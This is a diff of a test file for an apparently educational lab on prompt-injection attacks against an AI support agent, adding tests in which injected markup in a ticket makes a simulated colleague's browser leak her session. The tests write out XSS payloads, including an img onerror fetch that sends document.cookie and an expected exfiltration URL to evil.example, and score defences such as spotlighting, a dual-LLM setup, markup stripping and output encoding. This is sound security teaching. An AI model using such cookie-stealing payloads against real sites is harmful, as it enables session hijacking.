@@ -1,8 +1,8 @@
 import { existsSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
-import { MAX_ATTACK_LENGTH } from '../../src/lib/demo/agent';
 import { LABS, findLab } from '../../src/lib/labs/labs';
-import { attemptAttack, evaluateFix, scoreSuite } from '../../src/lib/labs/suite';
+import { attemptAttack, defencesOf, evaluateFix, scoreSuite } from '../../src/lib/labs/suite';
+import { MAX_ATTACK_LENGTH, runToEnd } from '../../src/lib/demo/agent';
 import { effectSeen } from '../../src/lib/labs/effects';
 import { datasetCases } from '../../src/lib/labs/dataset';
 import { BAD_LAB_LINK, parseLabView, serializeLabView, startView } from '../../src/lib/labs/url-state';
@@ -220,5 +220,39 @@ describe('review-carrier (reviews and tool results as carriers)', () => {
     expect(figures('review-carrier', ['urlAllowlist', 'humanApproval'])).toEqual([0, 4, 1, 3]);
     const tracking = evaluateFix(lab, ['urlAllowlist', 'humanApproval']).cases.find((c) => c.id === 't-tracking')!;
     expect(tracking.explanation).toBe('Wrongly refused: Removed a link to track.parcel.example from the answer.');
+  });
+});
+
+describe('ticket-render (unsafe rendering, with a simulated victim)', () => {
+  const lab = findLab('ticket-render')!;
+  const requests = (text: string, fix: readonly string[] = []) =>
+    runToEnd({ scenarioId: 'ticket-reply', defences: defencesOf(fix as never), attack: text }).effects.victimRequests ?? [];
+
+  it('is solved only when the colleague’s browser sends her session outside', () => {
+    expect(attemptAttack(lab, LAB_SOLUTIONS['ticket-render']!.attack).solved).toBe(true);
+    // An image that loads is a request, but without her session; a script that reads it but sends nothing leaks nothing.
+    expect(requests('<img src="https://evil.example/p.png">')).toEqual(['https://evil.example/p.png']);
+    expect(attemptAttack(lab, '<img src="https://evil.example/p.png">').solved).toBe(false);
+    expect(attemptAttack(lab, '<script>alert(document.cookie)</script>').solved).toBe(false);
+    // Her session sent to the organisation's own host is no leak.
+    expect(attemptAttack(lab, '<img src=x onerror="fetch(\'https://intranet.example/log?\'+document.cookie)">').solved).toBe(false);
+  });
+
+  it('shows what the colleague’s browser did as a step of its own', () => {
+    const run = runToEnd({ scenarioId: 'ticket-reply', defences: defencesOf([]), attack: LAB_SOLUTIONS['ticket-render']!.attack });
+    expect(run.steps.at(-1)).toMatchObject({
+      kind: 'victim',
+      text: expect.stringContaining('https://evil.example/c?s=session=sess-priya-'),
+    });
+    expect(requests(LAB_SOLUTIONS['ticket-render']!.attack, ['outputEncoding'])).toEqual([]);
+  });
+
+  it('gives exact figures: marking or quarantining the ticket changes nothing, stripping markup breaks the help links', () => {
+    expect(figures('ticket-render', [])).toEqual([5, 5, 0, 3]);
+    expect(figures('ticket-render', ['spotlighting'])).toEqual([5, 5, 0, 3]);
+    expect(figures('ticket-render', ['dualLlm'])).toEqual([5, 5, 0, 3]);
+    expect(figures('ticket-render', ['stripMarkup'])).toEqual([0, 5, 2, 3]);
+    expect(figures('ticket-render', ['outputEncoding'])).toEqual([0, 5, 0, 3]);
+    expect(figures('ticket-render', ['outputEncoding', 'stripMarkup'])).toEqual([0, 5, 0, 3]);
   });
 });
